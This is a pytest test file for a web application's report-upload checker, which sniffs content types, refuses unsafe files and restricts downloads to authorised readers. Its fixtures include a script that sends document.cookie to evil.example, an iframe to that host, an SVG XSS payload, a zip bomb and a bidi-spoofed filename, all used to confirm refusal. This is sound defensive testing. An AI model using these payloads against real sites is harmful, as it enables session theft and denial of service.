"""Files of assignment reports: checked by their content before anything is stored, served only as downloads and
only to whoever may read the assignment."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from datetime import date
from pathlib import Path

import docx
import openpyxl
import pytest
from sqlalchemy import func, select

from tests.web.test_assignments import _as, _post, setup  # noqa: F401 - the shared fixture
from webapp.extensions import db
from webapp.models import Assignment, Body, Report, ReportFile, StoredFile
from webapp.services.errors import Invalid
from webapp.services.files import check_upload

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
TEXT = "Служба создана приказом № 12 от 28.11.2026.\n".encode()


def _docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Отчёт об исполнении")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xlsx() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "Срок"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _zip(members: dict[str, bytes], first_stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(members.items()):
            stored = first_stored and index == 0
            archive.writestr(name, data, compress_type=zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _types(main: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" '
            f'ContentType="{main}"/></Types>').encode()


def _odf(mimetype: str) -> bytes:
    return _zip({"mimetype": mimetype.encode(), "content.xml": b"<office:document-content/>"}, first_stored=True)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _ole(stream: str) -> bytes:
    return OLE2 + stream.encode("utf-16-le") + b"\x00\x00" + b"\x00" * 64


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run."
HTML = b"<!DOCTYPE html><html><body><script>fetch('/documents').then(r => r.text())</script></body></html>"
SCRIPT = b"\n  <script>document.location = 'https://evil.example/?c=' + document.cookie</script>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>alert(document.domain)</script></svg>")
# 5 MB of spaces in the document part: a few kilobytes zipped, a thousand times more unzipped.
BOMB = _zip({"[Content_Types].xml": _types(DOCX_TYPE + ".main+xml"),
             "word/document.xml": b"<w:document>" + b" " * 5_000_000 + b"</w:document>"})


# --- the check, file by file ----------------------------------------------------------------------------------------

ALLOWED = [
    ("Отчёт.pdf", PDF, ("Отчёт.pdf", "application/pdf")),
    ("report.docx", _docx(), ("report.docx", DOCX_TYPE)),
    ("table.xlsx", _xlsx(), ("table.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")),
    ("slides.pptx", _zip({"[Content_Types].xml": _types(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "main.xml": b"<p/>"}),
     ("slides.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation")),
    ("text.odt", _odf("application/vnd.oasis.opendocument.text"),
     ("text.odt", "application/vnd.oasis.opendocument.text")),
    ("sheet.ods", _odf("application/vnd.oasis.opendocument.spreadsheet"),
     ("sheet.ods", "application/vnd.oasis.opendocument.spreadsheet")),
    ("old.doc", _ole("WordDocument"), ("old.doc", "application/msword")),
    ("old.xls", _ole("Workbook"), ("old.xls", "application/vnd.ms-excel")),
    ("letter.rtf", b"{\\rtf1\\ansi Hello}", ("letter.rtf", "application/rtf")),
    ("letter.doc", b"{\\rtf1\\ansi Hello}", ("letter.doc", "application/rtf")),  # Word's RTF saved as .doc
    ("scan.png", _png(), ("scan.png", "image/png")),
    ("photo.JPG", JPEG, ("photo.JPG", "image/jpeg")),
    ("сроки.csv", "Пункт;Срок\r\n1;01.12.2026\r\n".encode("cp1251"), ("сроки.csv", "text/csv; charset=windows-1251")),
    ("notes", TEXT, ("notes.txt", "text/plain; charset=utf-8")),  # a type the name lacks is added to it
    ("run.sh", b"#!/bin/sh\necho done\n", ("run.sh.txt", "text/plain; charset=utf-8")),
    ("C:\\Users\\exe\\отчёт.txt", TEXT, ("отчёт.txt", "text/plain; charset=utf-8")),
    ("invoice\u202etxt.exe", TEXT, ("invoicetxt.exe.txt", "text/plain; charset=utf-8")),  # no bidi override
    ("a < b.txt", "Если a < b и b > c, то a < c.".encode(), ("a < b.txt", "text/plain; charset=utf-8")),
]


@pytest.mark.parametrize(("filename", "data", "expected"), ALLOWED, ids=[case[0] for case in ALLOWED])
def test_allowed_files_get_the_type_of_their_content(app, filename, data, expected):
    with app.app_context():
        assert check_upload(filename, data) == expected


REFUSED = [
    ("report.pdf", HTML, "это веб-страница или разметка"),
    ("report.pdf", SCRIPT, "это веб-страница или разметка"),
    ("notes.txt", b"Smth\n<iframe src=//evil.example></iframe>", "это веб-страница или разметка"),
    ("plan.svg", SVG, "это веб-страница или разметка"),
    ("tool.exe", EXE, "по содержимому это не документ и не изображение из разрешённых"),
    ("report.pdf", EXE, "по содержимому это не документ и не изображение из разрешённых"),
    ("bomb.docx", BOMB, "«zip-бомбу»"),
    ("archive.zip", _zip({"a.txt": b"a"}), "это zip-архив, а не документ Word"),
    ("macro.docx", _zip({"[Content_Types].xml": _types("application/vnd.ms-word.document.macroEnabled.main+xml"),
                         "main.xml": b"<w/>"}), "документы с макросами не допускаются"),
    ("setup.doc", OLE2, "по содержимому это не документ"),  # a compound file that is neither Word nor Excel
    ("macro.doc", _ole("Macros") + _ole("WordDocument"), "документы с макросами не допускаются"),
    ("scan.pdf", _png(), "по содержимому это PNG, а расширение имени — .pdf"),
    ("old.docx", _ole("WordDocument"), "по содержимому это DOC, а расширение имени — .docx"),
    ("unicode.txt", "Текст".encode("utf-16"), "текст должен быть в кодировке UTF-8 или Windows-1251"),
    ("broken.docx", b"PK\x03\x04" + b"\x00" * 100, "по содержимому это не документ"),
    ("empty.txt", b"", "Файл «empty.txt» пуст."),
]


@pytest.mark.parametrize(("filename", "data", "message"), REFUSED, ids=[case[0] for case in REFUSED])
def test_other_files_are_refused_with_a_reason(app, filename, data, message):
    with app.app_context(), pytest.raises(Invalid) as refused:
        check_upload(filename, data)
    assert message in refused.value.reason


def test_size_limit_is_a_setting(app):
    app.config["UPLOAD_MAX_BYTES"] = 2048
    with app.app_context():
        assert check_upload("ok.txt", b"a" * 2048)[1].startswith("text/plain")
        with pytest.raises(Invalid, match="Файл «big.txt» слишком велик: 3 КБ, допустимо не более 2 КБ."):
            check_upload("big.txt", b"a" * 3000)


# --- through HTTP ---------------------------------------------------------------------------------------------------

def _report(client, auth, assignment_id, files, login="exe"):
    """`exe` takes the assignment into work and reports with these files: [(name, data, the client's type)]."""
    _post(client, auth, login, assignment_id, "take")
    return _post(client, auth, login, assignment_id, "report", text="Служба создана.",
                 files=[(io.BytesIO(data), name, content_type) for name, data, content_type in files])


def _files_on_disk(app) -> list[Path]:
    root = Path(app.config["FILES_DIR"])
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def _attached(app, assignment_id) -> dict[str, tuple[int, str, str]]:
    """The report files of an assignment: {name: (ReportFile id, stored content type, sha256)}."""
    with app.app_context():
        rows = db.session.execute(select(ReportFile.id, ReportFile.filename, StoredFile.content_type, StoredFile.sha256)
                                  .join(Report, ReportFile.report_id == Report.id)
                                  .join(StoredFile, ReportFile.file_id == StoredFile.id)
                                  .where(Report.assignment_id == assignment_id))
        return {name: (file_id, content_type, sha) for file_id, name, content_type, sha in rows}


UPLOAD = [("prikaz.pdf", PDF, "text/html"),  # what the client claims does not count
          ("report.docx", _docx(), "application/octet-stream"),
          ("справка.txt", TEXT, "text/html")]


def test_executor_attaches_files_and_readers_download_them(app, client, auth, setup):  # noqa: F811
    aid = setup["assignment"]
    response = _report(client, auth, aid, UPLOAD)
    assert response.status_code == 302
    attached = _attached(app, aid)
    assert {name: content_type for name, (_id, content_type, _sha) in attached.items()} == {
        "prikaz.pdf": "application/pdf", "report.docx": DOCX_TYPE, "справка.txt": "text/plain; charset=utf-8"}
    assert len(_files_on_disk(app)) == 3

    for login in ("ctl", "exe", "aud", "adm"):
        _as(client, auth, login)
        for name, data, _client_type in UPLOAD:
            response = client.get(f"/assignments/{aid}/files/{attached[name][0]}")
            assert response.status_code == 200, (login, name)
            assert response.data == data
            assert response.headers["Content-Type"].startswith(attached[name][1])
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert response.headers["Content-Disposition"].startswith("attachment;")
    cyrillic = client.get(f"/assignments/{aid}/files/{attached['справка.txt'][0]}")
    assert "filename*=UTF-8''%D1%81%D0%BF%D1%80%D0%B0%D0%B2%D0%BA%D0%B0.txt" in cyrillic.headers["Content-Disposition"]


@pytest.mark.parametrize(("login", "status"), [("stranger", 403), (None, 302)])
def test_who_may_not_read_the_assignment_gets_no_file(app, client, auth, setup, login, status):  # noqa: F811
    aid = setup["assignment"]
    _report(client, auth, aid, UPLOAD[:1])
    file_id = _attached(app, aid)["prikaz.pdf"][0]
    auth.logout()
    if login:
        auth.login(login)
    response = client.get(f"/assignments/{aid}/files/{file_id}")
    assert response.status_code == status
    assert PDF not in response.data
    if status == 302:
        assert "/login" in response.headers["Location"]


def test_a_file_is_served_only_under_its_own_assignment(app, client, auth, setup):  # noqa: F811
    aid = setup["assignment"]
    with app.app_context():
        first = db.session.get(Assignment, aid)
        dept = db.session.scalar(select(Body).where(Body.name == "Отдел образования"))
        other = Assignment(document_id=first.document_id, lead_body=dept, controller_id=setup["ctl"],
                           action="Утвердить план.", deadline=date(2026, 12, 15), deadline_kind="by", status="new")
        db.session.add(other)
        db.session.commit()
        other_id = other.id
    _report(client, auth, aid, UPLOAD[:1])
    _report(client, auth, other_id, [("plan.txt", "План утверждён.".encode(), "text/plain")])
    mine, theirs = _attached(app, aid)["prikaz.pdf"][0], _attached(app, other_id)["plan.txt"][0]
    _as(client, auth, "exe")  # sees both assignments
    assert client.get(f"/assignments/{aid}/files/{mine}").status_code == 200
    assert client.get(f"/assignments/{aid}/files/{theirs}").status_code == 404
    assert client.get(f"/assignments/{other_id}/files/{mine}").status_code == 404
    assert client.get(f"/assignments/{aid}/files/999999").status_code == 404
    assert client.get(f"/assignments/999999/files/{mine}").status_code == 404


REFUSED_UPLOADS = [
    ("report.pdf", HTML, "Файл «report.pdf» не принят: это веб-страница или разметка"),
    ("report.pdf", SCRIPT, "Файл «report.pdf» не принят: это веб-страница или разметка"),
    ("tool.exe", EXE, "Файл «tool.exe» не принят: по содержимому это не документ"),
    ("plan.svg", SVG, "Файл «plan.svg» не принят: это веб-страница или разметка"),
    ("bomb.docx", BOMB, "похоже на «zip-бомбу»"),
    ("empty.txt", b"", "Файл «empty.txt» пуст."),
    ("big.txt", b"a" * 3000, "Файл «big.txt» слишком велик: 3 КБ, допустимо не более 2 КБ."),
]


@pytest.mark.parametrize(("name", "data", "message"), REFUSED_UPLOADS, ids=[case[0] for case in REFUSED_UPLOADS])
def test_a_refused_file_stores_nothing(app, client, auth, setup, name, data, message):  # noqa: F811
    """A good PDF goes with the bad file: the report is refused as a whole and not a byte is kept."""
    if name == "big.txt":
        app.config["UPLOAD_MAX_BYTES"] = 2048
    aid = setup["assignment"]
    response = _report(client, auth, aid, [("prikaz.pdf", PDF, "application/pdf"), (name, data, "application/pdf")])
    assert response.status_code == 302
    assert message in client.get(response.headers["Location"]).get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Assignment, aid).status == "in_work"
        assert db.session.scalar(select(func.count(Report.id))) == 0
        assert db.session.scalar(select(func.count(StoredFile.id))) == 0
    assert _files_on_disk(app) == []


def test_number_of_files_is_limited(app, client, auth, setup):  # noqa: F811
    app.config["UPLOAD_MAX_FILES"] = 2
    aid = setup["assignment"]
    files = [(f"{n}.txt", f"Файл {n}".encode(), "text/plain") for n in range(3)]
    response = _report(client, auth, aid, files)
    assert "Слишком много файлов: 3. Приложить можно не более 2." in client.get(
        response.headers["Location"]).get_data(as_text=True)
    assert _attached(app, aid) == {} and _files_on_disk(app) == []
    assert _report(client, auth, aid, files[:2]).status_code == 302
    assert set(_attached(app, aid)) == {"0.txt", "1.txt"}
